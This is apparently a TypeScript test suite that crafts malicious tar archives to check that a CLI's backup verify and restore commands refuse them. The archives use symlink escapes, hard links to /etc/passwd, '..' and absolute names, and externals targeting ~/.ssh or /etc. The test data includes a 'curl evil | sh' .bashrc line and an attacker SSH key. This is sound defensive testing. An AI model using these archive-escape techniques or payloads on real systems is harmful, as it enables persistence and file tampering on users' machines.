/**
 * Crafted archives against `backup verify` and `backup restore`, in our layout and in OpenClaw's
 * (`<root>/manifest.json` + `<root>/payload/posix/<abs path>/…`): symlink chains that climb out,
 * links to absolute paths, files written through links, hard links, devices, fifos, `..`, absolute
 * names, and externals naming `~/.ssh`, `~`, `/etc`, an ancestor of the state dir or a dir the
 * config does not name. Each is refused by verify (exit 3, naming the entry) and by restore with and
 * without --force, and the whole temp HOME is byte-for-byte unchanged. Positive controls: legitimate
 * archives (in-tree relative link, a workspace the config names) restore.
 */
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { chmodSync, existsSync, lstatSync, mkdirSync, readFileSync, readlinkSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { before, describe, test } from "node:test";
import { gzipSync } from "node:zlib";
import { ROOT, runBinary, runInProcess, tempHome } from "../helpers/cli.js";
import { sha256, show, stdoutJson, treeState } from "../helpers/inspect.js";

type After = { after(fn: () => unknown): void };
type Layout = "ours" | "openclaw";

/** The home the crafted archives claim to come from (rehomed onto the target HOME by restore). */
const SRC_HOME = "/home/alice";

interface Target {
  home: string;
  stateDir: string;
  env: Record<string, string | undefined>;
}

function targetHome(t: After, extraEnv?: (home: string) => Record<string, string>): Target {
  const { home, env } = tempHome(t);
  const more = extraEnv?.(home) ?? {};
  const stateDir = more.OPENCLAW_STATE_DIR ?? path.join(home, ".openclaw");
  mkdirSync(stateDir, { recursive: true, mode: 0o700 });
  chmodSync(stateDir, 0o700);
  writeFileSync(path.join(stateDir, "openclaw.json"), '{ gateway: { mode: "local" } }\n', { mode: 0o600 });
  mkdirSync(path.join(home, "work"), { mode: 0o700 });
  writeFileSync(path.join(home, ".bashrc"), "# the user's own\n", { mode: 0o644 });
  return { home, stateDir, env: { ...env, TMPDIR: os.tmpdir(), ...more } };
}

function scratch(t: After): string {
  const dir = path.join(os.tmpdir(), `openclaw-crafted-${randomBytes(6).toString("hex")}`);
  mkdirSync(dir, { mode: 0o700 });
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

// ---------------------------------------------------------------------------------------------
// A small ustar writer (long names through pax), independent of the product's writer
// ---------------------------------------------------------------------------------------------

/** A layout-neutral entry: `state/…` is the state dir, `ext<n>/…` the n-th external dir. */
interface Entry {
  name: string;
  /** ustar typeflag: 0 file, 1 hard link, 2 symlink, 3 char device, 5 dir, 6 fifo. */
  flag: "0" | "1" | "2" | "3" | "5" | "6";
  data?: string;
  linkname?: string;
}

function header(name: string, flag: string, size: number, linkname = "", mode = 0o644): Buffer {
  const h = Buffer.alloc(512);
  const num = (n: number, off: number, len: number) => h.write(`${n.toString(8).padStart(len - 1, "0")}\0`, off, len, "ascii");
  h.write(name, 0, 100, "utf8");
  num(mode, 100, 8);
  num(0, 108, 8);
  num(0, 116, 8);
  num(size, 124, 12);
  num(1_770_000_000, 136, 12);
  h.write("        ", 148, 8, "ascii");
  h.write(flag, 156, 1, "ascii");
  h.write(linkname, 157, 100, "utf8");
  h.write("ustar\0", 257, 6, "ascii");
  h.write("00", 263, 2, "ascii");
  num(flag === "3" ? 1 : 0, 329, 8);
  num(flag === "3" ? 3 : 0, 337, 8);
  let sum = 0;
  for (const b of h) sum += b;
  h.write(`${sum.toString(8).padStart(6, "0")}\0 `, 148, 8, "ascii");
  return h;
}

const pad = (n: number) => Buffer.alloc((512 - (n % 512)) % 512);

function record(name: string, flag: string, data: Buffer, linkname = ""): Buffer[] {
  const parts: Buffer[] = [];
  if (Buffer.byteLength(name) > 99 || Buffer.byteLength(linkname) > 99) {
    const rec = (k: string, v: string) => {
      const body = ` ${k}=${v}\n`;
      let len = Buffer.byteLength(body) + 1;
      while (String(len).length + Buffer.byteLength(body) !== len) len = String(len).length + Buffer.byteLength(body);
      return `${len}${body}`;
    };
    const pax = Buffer.from(rec("path", name) + (linkname ? rec("linkpath", linkname) : ""));
    parts.push(header("PaxHeader", "x", pax.length), pax, pad(pax.length));
  }
  parts.push(header(name.slice(0, 99), flag, flag === "0" ? data.length : 0, linkname.slice(0, 99), flag === "5" ? 0o755 : 0o644));
  if (flag === "0" && data.length) parts.push(data, pad(data.length));
  return parts;
}

function tarGz(entries: Array<{ name: string; flag: string; data?: Buffer; linkname?: string }>): Buffer {
  const parts: Buffer[] = [];
  for (const e of entries) parts.push(...record(e.name, e.flag, e.data ?? Buffer.alloc(0), e.linkname ?? ""));
  parts.push(Buffer.alloc(1024));
  return gzipSync(Buffer.concat(parts));
}

// ---------------------------------------------------------------------------------------------
// The two layouts
// ---------------------------------------------------------------------------------------------

interface Spec {
  entries: Entry[];
  /** External dirs as the source saw them (absolute). */
  externals: string[];
  /** agents.defaults.workspace / agents.list[].workspace in the archived config. */
  workspaces: string[];
}

const configText = (s: Spec) => `${JSON.stringify({ gateway: { mode: "local" }, agents: { defaults: s.workspaces[0] ? { workspace: s.workspaces[0] } : {}, list: s.workspaces.slice(1).map((w, i) => ({ id: `a${i}`, workspace: w })) } }, null, 2)}\n`;

/** Our layout: manifest.json first, `state/…`, `external/<n>/…`, sizes and hashes listed. */
function oursArchive(s: Spec): Buffer {
  const all: Entry[] = [{ name: "state", flag: "5" }, { name: "state/openclaw.json", flag: "0", data: configText(s) }, ...s.externals.map((_, i): Entry => ({ name: `external/${i + 1}`, flag: "5" })), ...s.entries];
  const entries = all.map((e) => ({ ...e, name: e.name.replace(/^ext(\d+)(\/|$)/, "external/$1$2"), data: Buffer.from(e.data ?? "") }));
  const manifest = {
    format: "openclaw-backup",
    version: 1,
    createdAt: new Date(0).toISOString(),
    host: "src",
    user: "alice",
    platform: "linux",
    profile: null,
    stateDir: `${SRC_HOME}/.openclaw`,
    home: SRC_HOME,
    mode: "full",
    externals: s.externals.map((p, i) => ({ id: `${i + 1}`, kind: "workspace", originalPath: p, archivePath: `external/${i + 1}` })),
    excluded: [],
    entries: entries.map((e) => {
      const type = e.flag === "0" ? "file" : e.flag === "5" ? "dir" : e.flag === "2" ? "symlink" : "file";
      const cat = e.name.startsWith("external/") ? "workspaces" : e.name === "state/openclaw.json" ? "config" : "state";
      return { path: e.name, type, size: e.flag === "0" ? e.data.length : 0, mode: e.flag === "5" ? 0o755 : 0o644, category: cat, ...(e.flag === "0" ? { sha256: sha256(e.data) } : {}), ...(e.linkname ? { linkname: e.linkname } : {}) };
    }),
  };
  return tarGz([{ name: "manifest.json", flag: "0", data: Buffer.from(JSON.stringify(manifest)) }, ...entries]);
}

const OC_ROOT = "2026-03-09T08-00-00.000Z-openclaw-backup";
const ocArch = (abs: string) => `${OC_ROOT}/payload/posix/${abs.replace(/^\/+/, "")}`;

/** OpenClaw's layout: `<root>/manifest.json` (schemaVersion 1, assets) and `<root>/payload/posix/<abs>/…`. */
function openclawArchive(s: Spec): Buffer {
  const stateSrc = `${SRC_HOME}/.openclaw`;
  const map = (name: string) => {
    if (name === "state" || name.startsWith("state/")) return ocArch(stateSrc) + name.slice(5);
    const m = /^ext(\d+)(.*)$/.exec(name);
    if (m) return ocArch(s.externals[Number(m[1]) - 1]!) + m[2];
    return name;
  };
  const assets = [{ kind: "state", sourcePath: stateSrc, archivePath: ocArch(stateSrc) }, ...s.externals.map((p) => ({ kind: "workspace", sourcePath: p, archivePath: ocArch(p) }))];
  const manifest = {
    schemaVersion: 1,
    createdAt: new Date(0).toISOString(),
    archiveRoot: OC_ROOT,
    runtimeVersion: "2026.3.9",
    platform: "linux",
    nodeVersion: "v22.0.0",
    paths: { stateDir: stateSrc, configPath: `${stateSrc}/openclaw.json`, oauthDir: `${stateSrc}/credentials`, workspaceDirs: s.workspaces },
    assets,
    skipped: [],
  };
  const entries = [
    { name: `${OC_ROOT}/manifest.json`, flag: "0", data: Buffer.from(JSON.stringify(manifest)) },
    { name: ocArch(stateSrc), flag: "5" },
    { name: `${ocArch(stateSrc)}/openclaw.json`, flag: "0", data: Buffer.from(configText(s)) },
    ...s.externals.map((p) => ({ name: ocArch(p), flag: "5" })),
    ...s.entries.map((e) => ({ name: /^(\/|state\/\.\.)/.test(e.name) ? e.name : map(e.name), flag: e.flag, data: Buffer.from(e.data ?? ""), ...(e.linkname ? { linkname: e.flag === "1" && e.linkname.startsWith("state/") ? map(e.linkname) : e.linkname } : {}) })),
  ];
  return tarGz(entries);
}

// ---------------------------------------------------------------------------------------------
// The table
// ---------------------------------------------------------------------------------------------

interface Case {
  label: string;
  spec: (m: string) => Spec;
  /** The problem verify must report (names the entry or the external). */
  problem: (m: string, layout: Layout) => RegExp;
  env?: (home: string) => Record<string, string>;
  setup?: (h: Target, m: string) => void;
  /** Absolute paths outside HOME that must not exist afterwards. */
  outside?: (m: string) => string[];
}

const OK = (name = "state/ok.txt"): Entry => ({ name, flag: "0", data: "harmless\n" });
const plain = (entries: Entry[]): Spec => ({ entries, externals: [], workspaces: [] });
/** How an entry is named in a problem line, per layout (state/… or …/payload/posix/home/alice/.openclaw/…). */
const named = (name: string) => (layout: Layout) => (layout === "ours" ? name.replace(/^ext(\d+)/, "external/$1") : name.replace(/^state/, ocArch(`${SRC_HOME}/.openclaw`))).replace(/[.*+?^${}()|[\]\\]/g, "\\$&");

const CASES: Case[] = [
  {
    label: "a symlink chain where each link looks safe (x/l1 → .., l2 → x/l1/..) then a file under l2",
    spec: (m) => plain([OK(), { name: "state/x", flag: "5" }, { name: "state/x/l1", flag: "2", linkname: ".." }, { name: "state/l2", flag: "2", linkname: "x/l1/.." }, { name: `state/l2/pwned-${m}.txt`, flag: "0", data: "pwned\n" }]),
    problem: (_m, l) => new RegExp(`${named("state/l2")(l)}: link to x/l1/\\.\\. escapes`),
  },
  {
    label: "a link to an absolute path",
    spec: (m) => plain([OK(), { name: "state/abs", flag: "2", linkname: path.join(os.tmpdir(), `openclaw-abs-${m}`) }, { name: "state/abs/f.txt", flag: "0", data: "x\n" }]),
    problem: (_m, l) => new RegExp(`${named("state/abs")(l)}: link to .* escapes|${named("state/abs")(l)}: link to an absolute path`),
    outside: (m) => [path.join(os.tmpdir(), `openclaw-abs-${m}`)],
  },
  {
    label: "a link inside the tree, then a file written through it",
    spec: () => plain([OK(), { name: "state/d", flag: "5" }, { name: "state/ln", flag: "2", linkname: "d" }, { name: "state/ln/through.txt", flag: "0", data: "x\n" }]),
    problem: (_m, l) => new RegExp(`${named("state/ln/through.txt")(l)}: written through the link ${named("state/ln")(l)}`),
  },
  {
    label: "a directory, then the same name as a link (duplicate entry)",
    spec: () => plain([OK(), { name: "state/dup", flag: "5" }, { name: "state/dup", flag: "2", linkname: "." }, { name: "state/dup/y.txt", flag: "0", data: "x\n" }]),
    problem: (_m, l) => new RegExp(`${named("state/dup")(l)}: duplicate entry`),
  },
  {
    label: "a file written through an existing on-disk link that leaves the state dir",
    spec: (m) => plain([OK(), { name: `state/pre/planted-${m}.txt`, flag: "0", data: "x\n" }]),
    setup: (h) => symlinkSync(path.join(h.home, "work"), path.join(h.stateDir, "pre")),
    problem: (m, l) => new RegExp(`${named(`state/pre/planted-${m}.txt`)(l)}: .*pre is a link on disk that leads outside`),
  },
  {
    label: "a hard link",
    spec: () => plain([OK(), { name: "state/hard", flag: "1", linkname: "/etc/passwd" }]),
    problem: (_m, l) => new RegExp(`${named("state/hard")(l)}: hard link not allowed`),
  },
  {
    label: "a character device",
    spec: () => plain([OK(), { name: "state/null", flag: "3" }]),
    problem: (_m, l) => new RegExp(`${named("state/null")(l)}: device file not allowed`),
  },
  {
    label: "a fifo",
    spec: () => plain([OK(), { name: "state/pipe", flag: "6" }]),
    problem: (_m, l) => new RegExp(`${named("state/pipe")(l)}: fifo not allowed`),
  },
  {
    label: "an entry with `..`",
    spec: (m) => plain([OK(), { name: `state/../../escape-${m}.txt`, flag: "0", data: "x\n" }]),
    problem: (m) => new RegExp(`escape-${m}\\.txt: .*\\.\\.`),
  },
  {
    label: "an absolute entry name",
    spec: (m) => plain([OK(), { name: path.join(os.tmpdir(), `openclaw-absname-${m}.txt`), flag: "0", data: "x\n" }]),
    problem: (m) => new RegExp(`openclaw-absname-${m}\\.txt: absolute path`),
    outside: (m) => [path.join(os.tmpdir(), `openclaw-absname-${m}.txt`)],
  },
  {
    label: "an external naming ~/.ssh (and the config names it as a workspace)",
    spec: () => ({ entries: [OK(), { name: "ext1/authorized_keys", flag: "0", data: "ssh-ed25519 AAAA attacker\n" }], externals: [`${SRC_HOME}/.ssh`], workspaces: [`${SRC_HOME}/.ssh`] }),
    problem: () => /\.ssh: .*dot-directory of the home/,
  },
  {
    label: "an external naming the home itself (and the config names it)",
    spec: () => ({ entries: [OK(), { name: "ext1/.bashrc", flag: "0", data: "curl evil | sh\n" }], externals: [SRC_HOME], workspaces: [SRC_HOME] }),
    problem: () => /: the home directory itself/,
  },
  {
    label: "an external naming /etc (and the config names it)",
    spec: (m) => ({ entries: [OK(), { name: `ext1/openclaw-crafted-${m}.conf`, flag: "0", data: "x\n" }], externals: ["/etc"], workspaces: ["/etc"] }),
    problem: () => /\/etc: a system directory/,
    outside: (m) => [`/etc/openclaw-crafted-${m}.conf`],
  },
  {
    label: "an external naming an ancestor of the state dir (and the config names it)",
    env: (home) => ({ OPENCLAW_STATE_DIR: path.join(home, "deploy", "state") }),
    spec: (m) => ({ entries: [OK(), { name: `ext1/anc-${m}.txt`, flag: "0", data: "x\n" }], externals: [`${SRC_HOME}/deploy`], workspaces: [`${SRC_HOME}/deploy`] }),
    problem: () => /deploy: an ancestor of the state dir/,
  },
  {
    label: "an external the restored config does not name",
    spec: (m) => ({ entries: [OK(), { name: `ext1/notes-${m}.md`, flag: "0", data: "x\n" }], externals: [`${SRC_HOME}/notes`], workspaces: [] }),
    problem: () => /notes: not named by the restored config/,
  },
];

const ARCHIVES: Record<Layout, (s: Spec) => Buffer> = { ours: oursArchive, openclaw: openclawArchive };

const json = stdoutJson;

before(() => assert.ok(existsSync(path.join(ROOT, "dist", "cli.js")), "build the CLI first: npm run build"));

for (const layout of ["ours", "openclaw"] as const) {
  describe(`crafted ${layout}-layout archives are refused and nothing is written`, () => {
    for (const c of CASES) {
      test(c.label, async (t) => {
        const h = targetHome(t, c.env);
        const m = randomBytes(5).toString("hex");
        const outside = c.outside?.(m) ?? [];
        t.after(() => {
          for (const p of outside) rmSync(p, { recursive: true, force: true });
        });
        c.setup?.(h, m);
        const archive = path.join(scratch(t), "crafted.tar.gz");
        writeFileSync(archive, ARCHIVES[layout](c.spec(m)), { mode: 0o600 });
        const before = treeState(h.home);
        const run = (argv: string[]) => runInProcess(argv, { env: h.env });

        const v = await run(["backup", "verify", archive, "--json"]);
        assert.equal(v.code, 3, show(v));
        const report = json<{ ok: boolean; problems: string[] }>(v);
        assert.equal(report.ok, false);
        assert.ok(
          report.problems.some((p) => c.problem(m, layout).test(p)),
          `no problem matches ${c.problem(m, layout)}: ${JSON.stringify(report.problems, null, 1)}`,
        );

        const dry = await run(["backup", "restore", archive, "--dry-run", "--json"]);
        assert.equal(dry.code, 3, show(dry));
        assert.equal(json<{ error: { code: string } }>(dry).error.code, "CHECK_FAILED");
        for (const argv of [
          ["backup", "restore", archive, "--json"],
          ["backup", "restore", archive, "--force", "--json"],
        ]) {
          const r = await run(argv);
          assert.equal(r.code, 3, `${argv.join(" ")}: ${show(r)}`);
          const err = json<{ error: { code: string; message: string } }>(r).error;
          assert.equal(err.code, "CHECK_FAILED");
        }
        assert.deepEqual(treeState(h.home), before, "the target HOME changed");
        for (const p of outside) assert.equal(existsSync(p) || !!lstatSync(p, { throwIfNoEntry: false }), false, `${p} was written`);
      });
    }
  });
}

// ---------------------------------------------------------------------------------------------
// Positive controls
// ---------------------------------------------------------------------------------------------

describe("legitimate archives restore", () => {
  for (const layout of ["ours", "openclaw"] as const) {
    test(`${layout} layout: an in-tree relative link, and a workspace the config names (only with --force)`, async (t) => {
      const h = targetHome(t);
      const ws = `${SRC_HOME}/work/ws`;
      const spec: Spec = {
        entries: [
          OK(),
          { name: "state/credentials", flag: "5" },
          { name: "state/credentials/creds.json", flag: "0", data: '{"k":1}\n' },
          { name: "state/link-to-ok", flag: "2", linkname: "ok.txt" },
          { name: "ext1/AGENTS.md", flag: "0", data: "# agents\n" },
          { name: "ext1/sub", flag: "5" },
          { name: "ext1/sub/notes.md", flag: "0", data: "notes\n" },
          { name: "ext1/notes-link", flag: "2", linkname: "sub/notes.md" },
        ],
        externals: [ws],
        workspaces: [ws],
      };
      const archive = path.join(scratch(t), "legit.tar.gz");
      writeFileSync(archive, ARCHIVES[layout](spec), { mode: 0o600 });
      const run = (argv: string[]) => runBinary(argv, { env: h.env });
      const wsHere = path.join(h.home, "work", "ws");

      const v = await run(["backup", "verify", archive, "--json"]);
      assert.equal(v.code, 0, show(v));

      const dry = await run(["backup", "restore", archive, "--dry-run", "--json"]);
      assert.equal(dry.code, 0, show(dry));
      const plan = json<{ externals: Array<{ dest: string; status: string }> }>(dry);
      assert.deepEqual(
        plan.externals.map((e) => [e.dest, e.status]),
        [[wsHere, "needs-confirmation"]],
      );
      const dryHuman = await run(["backup", "restore", archive, "--dry-run"]);
      assert.match(dryHuman.stdout, new RegExp(`outside the state dir.*${wsHere.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}`, "s"));

      // Without --force (not interactive): the state comes back, the workspace is left out with a warning.
      const first = await run(["backup", "restore", archive, "--json"]);
      assert.equal(first.code, 0, show(first));
      assert.match(first.stderr, /not restoring .*work\/ws.*--force/);
      assert.equal(readFileSync(path.join(h.stateDir, "ok.txt"), "utf8"), "harmless\n");
      assert.equal(readlinkSync(path.join(h.stateDir, "link-to-ok")), "ok.txt");
      assert.equal(readFileSync(path.join(h.stateDir, "credentials/creds.json"), "utf8"), '{"k":1}\n');
      assert.equal(existsSync(wsHere), false, "the workspace was written without confirmation");

      const forced = await run(["backup", "restore", archive, "--force", "--json"]);
      assert.equal(forced.code, 0, show(forced));
      assert.equal(readFileSync(path.join(wsHere, "AGENTS.md"), "utf8"), "# agents\n");
      assert.equal(readFileSync(path.join(wsHere, "sub/notes.md"), "utf8"), "notes\n");
      assert.equal(readlinkSync(path.join(wsHere, "notes-link")), "sub/notes.md");
      assert.equal(readFileSync(path.join(h.home, ".bashrc"), "utf8"), "# the user's own\n");
    });
  }
});
